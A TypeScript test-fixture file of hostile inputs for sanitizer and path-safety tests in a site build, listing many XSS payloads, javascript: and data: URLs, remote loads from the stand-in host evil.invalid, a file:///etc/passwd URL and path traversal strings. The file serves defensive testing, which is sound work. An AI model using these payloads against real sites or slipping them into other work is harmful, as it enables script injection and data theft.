/**
 * Hostile inputs: text that would run script, load something from another site or escape the
 * output folder if any stage of the build let it through. Kept as data, apart from the generators
 * that place it (hostile-stix.ts; a notes vault generator takes the same lists), so that every
 * input gets every payload.
 *
 * A payload that ran would give itself away in one of the ways the browser test watches: a dialog,
 * a console message holding MARKER, a request to EVIL_HOST, or a Content-Security-Policy violation.
 */
export const MARKER = 'PWNED';
export const EVIL_HOST = 'evil.invalid';
/** A reference every hostile object carries, so that payloads can cite it and get citation markup. */
export const SHARED_REFERENCE = 'Shared Reference';

export interface Payload {
  /** Short name, for failure messages and ATT&CK-like ids. */
  id: string;
  text: string;
}

const run = `alert('${MARKER}')`;
const log = `console.log('${MARKER}')`;
const evil = `https://${EVIL_HOST}`;
const base64Script = Buffer.from(`<script>${run}</script>`).toString('base64');

/** For text fields: names, descriptions (markdown with raw HTML), citations, table values. */
export const MARKUP_PAYLOADS: Payload[] = [
  { id: 'script', text: `<script>${run}</script>` },
  { id: 'script-src', text: `<SCRIPT SRC=${evil}/x.js></SCRIPT>` },
  { id: 'script-nested', text: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { id: 'script-doubled', text: `<<script>script>${run}<</script>/script>` },
  { id: 'script-slash', text: `<script/x>${run}</script/x>` },
  { id: 'script-entities', text: `&lt;script&gt;${run}&lt;/script&gt;` },
  { id: 'script-fullwidth', text: `＜script＞${run}＜/script＞` },
  { id: 'script-nul', text: `\u0000<script>${run}</script>` },
  { id: 'img-onerror', text: `<img src=x onerror="${run}">` },
  { id: 'img-console', text: `<img src=x:x onerror=${log}>` },
  { id: 'img-remote', text: `<img src="${evil}/pixel.png">` },
  { id: 'img-srcset', text: `<img srcset="${evil}/srcset.png 1x">` },
  { id: 'svg-onload', text: `<svg onload=${run}>` },
  { id: 'svg-script', text: `<svg><script>${run}</script></svg>` },
  { id: 'svg-xlink', text: `<svg><a xlink:href="javascript:${run}"><text x="20" y="20">x</text></a></svg>` },
  { id: 'svg-animate', text: `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>` },
  { id: 'iframe-js', text: `<iframe src="javascript:${run}"></iframe>` },
  { id: 'iframe-srcdoc', text: `<iframe srcdoc="<script>${run}</script>"></iframe>` },
  { id: 'object-data', text: `<object data="javascript:${run}"></object>` },
  { id: 'embed-src', text: `<embed src="${evil}/x.swf">` },
  { id: 'a-js', text: `<a href="javascript:${run}">click</a>` },
  { id: 'a-js-case', text: `<a href="JaVaScRiPt:${run}">click</a>` },
  { id: 'a-js-tab', text: `<a href="jav&#x09;ascript:${run}">click</a>` },
  { id: 'a-js-entity', text: `<a href="&#106;avascript:${run}">click</a>` },
  { id: 'a-data', text: `<a href="data:text/html;base64,${base64Script}">click</a>` },
  { id: 'a-vbscript', text: `<a href="vbscript:msgbox('${MARKER}')">click</a>` },
  { id: 'a-onclick', text: `<a href="#" onclick="${run}">click</a>` },
  { id: 'a-ping', text: `<a href="${evil}/" ping="${evil}/ping">link</a>` },
  { id: 'p-onmouseover', text: `<p onmouseover="${run}">hover</p>` },
  { id: 'md-link-js', text: `[markdown link](javascript:${run})` },
  { id: 'md-link-data', text: `[markdown link](data:text/html;base64,${base64Script})` },
  { id: 'md-autolink-js', text: `<javascript:${run}>` },
  { id: 'md-image', text: `![image](${evil}/markdown.png)` },
  { id: 'md-reference-js', text: `[reference link][x]\n\n[x]: javascript:${run}` },
  { id: 'md-attack-link', text: `[attack link](https://attack.mitre.org/techniques/T9999/#"><script>${run}</script>)` },
  { id: 'details-ontoggle', text: `<details open ontoggle="${run}"><summary>x</summary></details>` },
  { id: 'body-onload', text: `<body onload="${run}">` },
  { id: 'input-onfocus', text: `<input autofocus onfocus="${run}">` },
  { id: 'video-onerror', text: `<video><source onerror="${run}"></video>` },
  { id: 'audio-remote', text: `<audio src="${evil}/a.mp3" autoplay></audio>` },
  { id: 'style-url', text: `<style>body{background:url(${evil}/style.png)}</style>` },
  { id: 'style-import', text: `<style>@import '${evil}/import.css';</style>` },
  { id: 'style-attribute', text: `<div style="background-image:url(${evil}/inline.png)">styled</div>` },
  { id: 'link-stylesheet', text: `<link rel="stylesheet" href="${evil}/style.css">` },
  { id: 'meta-refresh', text: `<meta http-equiv="refresh" content="0;url=javascript:${run}">` },
  { id: 'base-href', text: `<base href="${evil}/">` },
  { id: 'form-action', text: `<form action="${evil}/"><button formaction="javascript:${run}">go</button></form>` },
  { id: 'table-background', text: `<table background="${evil}/bg.png"><tr><td>x</td></tr></table>` },
  { id: 'isindex', text: `<isindex action="javascript:${run}" type=image>` },
  { id: 'quote-breakout', text: `"><script>${run}</script>` },
  { id: 'apostrophe-breakout', text: `'><svg onload=${run}>` },
  { id: 'title-breakout', text: `</title><script>${run}</script>` },
  { id: 'textarea-breakout', text: `</textarea><script>${run}</script>` },
  { id: 'comment-breakout', text: `--><script>${run}</script><!--` },
  { id: 'cdata', text: `<![CDATA[<script>${run}</script>]]>` },
  { id: 'mxss-math', text: `<math><mtext><table><mglyph><style><img src=x onerror="${run}">` },
  { id: 'mxss-noscript', text: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
  { id: 'template', text: `<template><script>${run}</script></template>` },
  { id: 'template-literal', text: `\${${run}}` },
  { id: 'jsx-expression', text: `{${run}}` },
  { id: 'clobber-ids', text: `<a id="main" name="references" href="${evil}/">clobber</a><h2 id="ref-1">fake</h2>` },
  { id: 'citation-script', text: `(Citation: <script>${run}</script>)` },
  { id: 'citation-attribute', text: `(Citation: x" onmouseover="${run})` },
  { id: 'bidi-controls', text: `\u202e<img src=x onerror=${run}>\u202c` },
  // URLs that browsers read as another site's: a backslash for a slash, a tab or newline inside.
  { id: 'img-backslash', text: `<img src="/\\${EVIL_HOST}/backslash.png">` },
  { id: 'img-tab', text: `<img src="/&#9;/${EVIL_HOST}/tab.png">` },
  { id: 'img-newline', text: `<img src="/&#10;/${EVIL_HOST}/newline.png">` },
  { id: 'img-srcset-backslash', text: `<img srcset="/\\${EVIL_HOST}/srcset.png 1x">` },
  { id: 'a-backslash', text: `<a href="/\\${EVIL_HOST}/">backslash link</a>` },
  { id: 'md-image-backslash', text: `![image](/\\${EVIL_HOST}/md.png)` },
  // Citation tokens inside attribute values: resolved after sanitizing, they must not close the attribute.
  { id: 'citation-itemprop', text: `<span itemprop="(Citation: ${SHARED_REFERENCE}) &gt;&lt;meta http-equiv=refresh content=0;url=${evil}/&gt;">x</span>` },
  { id: 'citation-class', text: `<code class="(Citation: ${SHARED_REFERENCE}) &gt;&lt;script src=/wiki/files/evil.avif&gt;&lt;/script&gt;">x</code>` },
  { id: 'citation-accesskey', text: `<b accesskey="(Citation: ${SHARED_REFERENCE}) &gt;&lt;img src=x onerror=${run}&gt;">x</b>` },
  { id: 'citation-headers', text: `<table><tr><td headers="(Citation: ${SHARED_REFERENCE}) &gt;&lt;svg onload=${run}&gt;">x</td></tr></table>` },
  { id: 'citation-title', text: `<span title="(Citation: ${SHARED_REFERENCE})&quot; onmouseover=&quot;${run}">x</span>` },
  { id: 'citation-href', text: `<a href="https://example.com/(Citation: ${SHARED_REFERENCE})&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;">x</a>` },
];

/** For fields holding URLs (external references): schemes that run script, and attribute breakouts. */
export const URL_PAYLOADS: Payload[] = [
  { id: 'url-js', text: `javascript:${run}` },
  { id: 'url-js-upper', text: `JAVASCRIPT:${run}` },
  { id: 'url-js-space', text: `  javascript:${run}` },
  { id: 'url-js-newline', text: `java\nscript:${run}` },
  { id: 'url-data', text: `data:text/html;base64,${base64Script}` },
  { id: 'url-vbscript', text: `vbscript:msgbox('${MARKER}')` },
  { id: 'url-quote', text: `${evil}/" onmouseover="${run}` },
  { id: 'url-script', text: `${evil}/<script>${run}</script>` },
  { id: 'url-protocol-relative', text: `//${EVIL_HOST}/x` },
  { id: 'url-file', text: 'file:///etc/passwd' },
];

/** For values that become parts of paths: platform names now, note file names and tags later. */
export const PATH_PAYLOADS: Payload[] = [
  { id: 'path-parent', text: '../../../../escaped' },
  { id: 'path-absolute', text: '/tmp/escaped' },
  { id: 'path-backslash', text: '..\\..\\escaped' },
  { id: 'path-nul', text: 'nul\u0000byte' },
  { id: 'path-reserved', text: 'CON' },
  { id: 'path-colon', text: 'C:\\Windows' },
  { id: 'path-encoded', text: '%2e%2e%2f%2e%2e%2fescaped' },
  { id: 'path-markup', text: `<script>${run}</script>` },
];
